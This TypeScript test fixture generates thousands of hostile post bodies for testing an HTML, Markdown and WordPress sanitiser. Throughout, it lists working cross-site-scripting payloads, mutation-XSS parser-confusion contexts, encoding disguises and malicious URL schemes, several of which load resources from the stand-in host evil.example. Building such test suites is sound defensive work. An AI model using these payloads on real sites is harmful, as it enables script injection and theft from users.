import type { Format } from "../../src/model/post.ts";

/**
 * Bodies that an attacker would send, made by putting together what has passed other sanitisers: active elements,
 * places in which parsers disagree, disguises, addresses. Each calls `hit()` or asks evil.example when it works.
 */
export type Hostile = { format: Format; body: string };

const DATA = "data:text/html,<script>parent.hit()</script>";

const ACTIVE = [
  "<script>hit()</script>",
  "<script src=//evil.example/1.js></script>",
  "<script>hit()",
  "<img src=x onerror=hit()>",
  '<img src="x" onerror="hit()" style="position:fixed">',
  "<image src=x onerror=hit()>",
  "<svg onload=hit()>",
  "<svg><script>hit()</script></svg>",
  "<svg><script href=//evil.example/2.js /></svg>",
  "<svg><animate onbegin=hit() attributeName=x dur=1s>",
  '<svg><a xlink:href="javascript:hit()"><text x=20 y=20>a</text></a></svg>',
  '<svg><use href="//evil.example/3.svg#a"></use><image href="//evil.example/4.png"></image></svg>',
  '<svg><set attributeName=href to="javascript:hit()"></set></svg>',
  '<math href="javascript:hit()"><mi>a</mi></math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:hit()">a</maction></math>',
  "<iframe src=javascript:parent.hit()></iframe>",
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  "<iframe src=//evil.example/5 onload=hit()></iframe>",
  "<object data=javascript:hit()></object>",
  "<object data=//evil.example/6 type=text/html></object>",
  "<embed src=//evil.example/7.swf allowscriptaccess=always>",
  `<embed src="${DATA}">`,
  '<a href="javascript:hit()" id=go>a</a>',
  '<a href="#" ping="//evil.example/8" onclick=hit()>a</a>',
  "<area shape=rect href=javascript:hit()>",
  "<form action=javascript:hit()><button>a</button></form>",
  "<form><button formaction=javascript:hit()>a</button></form>",
  "<input autofocus onfocus=hit()>",
  "<input type=image src=//evil.example/9.png>",
  "<select autofocus onfocus=hit()><option>a</select>",
  "<textarea autofocus onfocus=hit()></textarea>",
  "<details open ontoggle=hit()>a</details>",
  "<video src=x onerror=hit()><source src=x onerror=hit()></video>",
  "<video poster=//evil.example/10.png></video>",
  "<audio src=//evil.example/11.mp3 autoplay></audio>",
  "<picture><source srcset=//evil.example/12.png><img src=/a.png></picture>",
  '<img src=/a.png srcset="/a.png 1x, //evil.example/13.png 2x">',
  "<body onload=hit()>",
  "<body background=//evil.example/14.png>",
  "<table background=//evil.example/15.png><td>a</table>",
  "<marquee onstart=hit()>a</marquee>",
  "<style>@import'//evil.example/16.css';</style>",
  "<style>*{background:url(//evil.example/17.png)}</style>",
  '<p style="background:url(//evil.example/18.png)">a</p>',
  "<style>@keyframes a{}</style><p style=animation-name:a onanimationstart=hit()>a</p>",
  "<link rel=stylesheet href=//evil.example/19.css>",
  "<link rel=preload as=script href=//evil.example/20.js>",
  '<meta http-equiv=refresh content="0;url=//evil.example/21">',
  "<base href=//evil.example/>",
  "<template shadowrootmode=open><script>hit()</script><img src=x onerror=hit()></template>",
  "<b onpointerover=hit() contenteditable autofocus onfocus=hit() tabindex=0>a</b>",
  "<x-a onfocus=hit() autofocus tabindex=1 is=x>a</x-a>",
  "<frameset onload=hit()><frame src=javascript:hit()></frameset>",
];

/** Where the parsers of sanitisers and browsers have read something else; `%` is where the attack goes. */
const PLACES = [
  "%",
  "a % b",
  "<p>%</p>",
  "</p>%",
  "<!--%-->",
  "<!-->%-->",
  "<!--->%-->",
  "<!--a--!>%-->",
  "<!-- --%>%-->",
  "<![CDATA[%]]>",
  "<svg><![CDATA[</svg>%]]></svg>",
  "<?a %?>",
  "<!DOCTYPE a [%]>",
  '<p title="%">a</p>',
  "<p title='%'>a</p>",
  "<p title=%>a</p>",
  '<p id="a" title="</p>%">a</p>',
  '<a href="%">a</a>',
  '<img src="/a.png" alt="%">',
  "<img src='/a.png' alt='\"%'>",
  "<svg>%</svg>",
  "<svg><title>%</title></svg>",
  "<svg><desc><svg>%",
  "<svg><foreignObject>%</foreignObject></svg>",
  "<svg><foreignObject><math><mtext>%",
  '<svg><style><a title="</style>%">',
  '<svg></p><style><a id="</style>%">',
  "<svg></br><style>/*</style>%*/",
  "<math>%</math>",
  "<math><mi>%",
  '<math><annotation-xml encoding="text/html">%</annotation-xml></math>',
  '<math><annotation-xml encoding="application/xhtml+xml"><svg>%',
  "<math><annotation-xml><style>%",
  "<math><mtext><table><mglyph><style><!--</style>%-->",
  '<math><mtext><table><mglyph><style><math title="</style>%">',
  "<form><math><mtext></form><form><mglyph><style></math>%",
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>%">',
  "<math><mi><table><mi><mglyph><malignmark><xmp>%",
  "<noscript>%</noscript>",
  '<noscript><p title="</noscript>%"></noscript>',
  "<noscript><style></noscript>%</style>",
  "<template>%</template>",
  "<template><svg></template>%",
  "<style>%</style>",
  "<style><!--</style>%--></style>",
  "<title>%</title>",
  '<title><a title="</title>%">',
  "<textarea>%</textarea>",
  '<textarea><a title="</textarea>%">',
  "<xmp>%</xmp>",
  '<xmp><p title="</xmp>%">',
  "<plaintext>%",
  "<listing>\n%</listing>",
  "<noembed>%</noembed>",
  '<noembed><p title="</noembed>%">',
  "<noframes>%</noframes>",
  '<iframe><p title="</iframe>%"></iframe>',
  "<select>%</select>",
  "<select><option><style></option></select>%</style>",
  "<select><template><svg>%",
  "<table>%</table>",
  "<table><tr><td>%",
  "<table><caption><svg>%",
  "<table><colgroup><p>%",
  "<table><svg><table>%",
  "<a><table><a>%",
  "<b><p><i></b>%",
  "<ruby><rtc><rt>%",
  "<button><p>%",
  "<dl><dt><dd><p>%",
  "<form id=a><div></form><form id=b>%",
  "<object><param name=movie value='%'></object>",
  "<video><track src='%'></video>",
  "<head>%</head>",
  "<html><frameset>%",
  "<pre>\n\n%</pre>",
  "<a name='%'></a>",
  "<p class='video %' lang='%'>a",
  "<ol start='%' type='%'><li value='%'>",
  `${"<div>".repeat(190)}%`,
  `${"<b>".repeat(60)}<table>${"<i>".repeat(60)}%`,
  `${"<svg>".repeat(120)}<foreignObject>${"<p>".repeat(120)}%`,
];

/** Ways to write the same, or nearly the same. */
const DISGUISES: ((body: string) => string)[] = [
  (body) => body.toUpperCase().replaceAll("HIT()", "hit()"),
  (body) => body.replaceAll("<", "<\0"),
  (body) => body.replace(/<(\w)/g, "<$1\0"),
  (body) => body.replace(/(on\w+)=/g, "$1\f=\n"),
  (body) => body.replaceAll(" ", "/"),
  (body) => body.replaceAll(" ", "\f"),
  (body) => body.replaceAll("<", "<<"),
  (body) => body.replaceAll(">", ""),
  (body) => body.replaceAll("</", "< /"),
  (body) => body.replaceAll("<", "&lt;"),
  (body) => body.replaceAll("<", "&LT"),
  (body) => body.replaceAll("<", "&#60;").replaceAll('"', "&#34"),
  (body) => body.replaceAll("<", "\uFF1C"),
  (body) => body.replaceAll("<", "<\uFEFF"),
  (body) => body.replaceAll('"', "`"),
  (body) => body.replaceAll("script", "scr\0ipt"),
  (body) => body.replaceAll("script", "scr<script></script>ipt"),
  (body) => body.replaceAll("=", "=\u2028"),
  (body) => body.replaceAll(" on", ' a="\ud800" on'),
  (body) => `${body}<!--`,
  (body) => `${body}<p title="`,
  (body) => `\r${body.replaceAll(">", "\r>")}`,
];

const ADDRESSES = [
  "javascript:hit()",
  "javascript://evil.example/%0ahit()",
  "vbscript:hit()",
  "livescript:hit()",
  DATA,
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>",
  "blob:https://evil.example/1",
  "file:///etc/passwd",
  "filesystem:http://evil.example/a",
  "view-source:javascript:hit()",
  "feed:javascript:hit()",
  "jar:javascript:hit()!/",
  "about:blank",
  "//evil.example/22",
  "\\\\evil.example\\23",
  "/\\evil.example/24",
  "/\t/evil.example/25",
  "https:\\evil.example/26",
  "http:evil.example/27",
  "///evil.example/28",
  "https://site.test@evil.example/29",
];

const ADDRESS_DISGUISES: ((address: string) => string)[] = [
  (address) => address,
  (address) => address.replace("script", "ScRiPt"),
  (address) => `\u0001 \t${address}`,
  (address) => `\u00A0\u3000${address}`,
  (address) => address.replace(/^(.{3})/, "$1\n"),
  (address) => address.replace(/^(.{2})/, "$1&Tab;"),
  (address) => address.replace(/^(.{4})/, "$1\0"),
  (address) => address.replace(":", "&colon;"),
  (address) => address.replace(":", "&#x3A"),
  (address) => address.replace(/^./, (first) => `&#${first.charCodeAt(0)}`),
  (address) => address.replace(/^./, (first) => `&#x0000${first.charCodeAt(0).toString(16)};`),
  (address) => address.replace(":", "\u00AD:"),
  (address) => address.replace(":", "%3A"),
  (address) => `${address}#" onfocus="hit()" autofocus="`,
  (address) => `${address}' onerror='hit()' x='`,
  (address) => `${address}><img src=x onerror=hit()>`,
];

const HTML_HOLDERS = [
  '<a href="%">a</a>',
  "<a href='%'>a</a>",
  "<a href=%>a</a>",
  '<a name="a" href="/a" xlink:href="%">a</a>',
  '<img src="%">',
  "<img src=%>",
  '<img src="/a.png" srcset="%">',
  '<img src="/a.png" srcset="/a.png 1x,% 2x" sizes="%">',
  '<img data-src="%" width=2>',
  '<audio src="%"></audio>',
  '<video src="/a.mp4" poster="%"><source src="%"><track src="%"></video>',
  '<picture><source src="%" srcset="%"></picture>',
  '<iframe src="%" title="%"></iframe>',
  '<object data="%"><param name="movie" value="%"><embed src="%"></object>',
  '<form action="%"><button formaction="%">a</button></form>',
  '<blockquote cite="%"><q cite="%">a</q><del cite="%">b</del></blockquote>',
  '<svg><a href="%" xlink:href="%"><text>a</text></a><image href="%"/></svg>',
  '<math><mi href="%">a</mi></math>',
  '<base href="%"><link rel=stylesheet href="%">',
  '<meta http-equiv="refresh" content="0;%">',
  '<body background="%"><table background="%">',
  "<p>%</p>",
];

const MARKDOWN_HOLDERS = [
  "[a](%)",
  "[a](<%>)",
  "![a](%)",
  "<%>",
  "[a][b]\n\n[b]: %",
  '[a](/b "%")',
  "![%](/a.png)",
  "`%`",
  "```%\na\n```",
  "[^%]\n\n[^%]: %",
  "|%|\n|-|\n|%|",
  "# %",
  "- [ ] %",
  "www.%",
  "a@%",
  "&lt;%",
];

const WORDPRESS_HOLDERS = [
  '[caption id="%" align="%" caption="%"]<img src="/a.png" />[/caption]',
  '[caption]<img src="%" /> %[/caption]',
  '[caption]<a href="%"><img src="/a.png" /></a>[/caption]',
  '[audio src="%"]',
  '[video mp4="%" poster="%" width="%"]',
  "[video]%[/video]",
  "[embed]%[/embed]",
  '[embed url="%"]',
  "[youtube=%&w=560]",
  "[youtube %]",
  '[vimeo "%"]',
  '[gallery ids="%"]',
  '[a b="1"]%[/a]',
  "[[caption %]]",
  "<scr[a_b]ipt>%</scr[a_b]ipt>",
  "<img src=x one[a_b]rror=hit() title='%'>",
  '<!-- wp:embed {"url":"%"} /-->',
  "<!-- wp:html -->%<!-- /wp:html -->",
  "<scr<!-- wp:a -->ipt>%",
  "<!--more %-->",
  "<!--more--><p>%",
  "a\n\n%\n\n<!--more-->b",
  "<pre>%",
  "\"%\" -- '%'...",
  "http://youtu.be/abcdefghijk?%",
  "\n%\n",
];

const FORMATS: Format[] = ["html", "markdown", "wordpress"];

/** Some nine thousand bodies, the same each time. */
export function hostileBodies(): Hostile[] {
  const fillings = ADDRESSES.flatMap((address) => ADDRESS_DISGUISES.map((disguise) => disguise(address)));
  return [...placed(), ...held(fillings), ...soups(1200)];
}

/** Every active element in every place, each in one format and in one disguise that moves on. */
function placed(): Hostile[] {
  return ACTIVE.flatMap((active, row) =>
    PLACES.map((place, column): Hostile => {
      const body = place.replaceAll("%", () => active);
      const disguise = DISGUISES[(row * 5 + column) % (2 * DISGUISES.length)];
      return { format: FORMATS[(row + column) % 3] ?? "html", body: disguise?.(body) ?? body };
    }),
  );
}

/** Every address in every holder of a format; active elements too where words may stand. */
function held(addresses: string[]): Hostile[] {
  const fill = (format: Format, holders: string[], every: number) =>
    holders.flatMap((holder, row) =>
      [...addresses, ...ACTIVE]
        .filter((_, column) => (row + column) % every === 0)
        .map((filling): Hostile => ({ format, body: holder.replaceAll("%", () => filling) })),
    );
  return [
    ...fill("html", HTML_HOLDERS, 5),
    ...fill("markdown", MARKDOWN_HOLDERS, 6),
    ...fill("wordpress", WORDPRESS_HOLDERS, 7),
  ];
}

const NAMES =
  `a annotation-xml b br caption col dd desc div foreignObject form frameset h1 i iframe li listing math
  mglyph mi mtext noscript object ol option p plaintext pre rt ruby script select style svg table tbody td template
  textarea title tr xmp`.split(/\s+/);

/** Tags in no order at all, with an attack among them: what misnesting makes of them nobody can foresee. */
function soups(count: number): Hostile[] {
  let seed = 20_261_101;
  const below = (most: number) => {
    // Numerical Recipes' generator: the same numbers each time.
    seed = (Math.imul(seed, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((seed / 2 ** 32) * most);
  };
  const pick = <T>(list: readonly T[], fallback: T) => list[below(list.length)] ?? fallback;
  const piece = () => {
    const name = pick(NAMES, "p");
    const kinds = [
      `<${name}>`,
      `<${name}>`,
      `</${name}>`,
      `<${name} title="</${name}><img src=x onerror=hit()>">`,
    ];
    return pick([...kinds, "<!--", "-->", "a\n\nb", "]]>", pick(ACTIVE, "")], "");
  };
  return Array.from({ length: count }, (_, index) => ({
    format: FORMATS[index % 3] ?? "html",
    body: Array.from({ length: 4 + below(16) }, piece).join("") + pick(ACTIVE, ""),
  }));
}
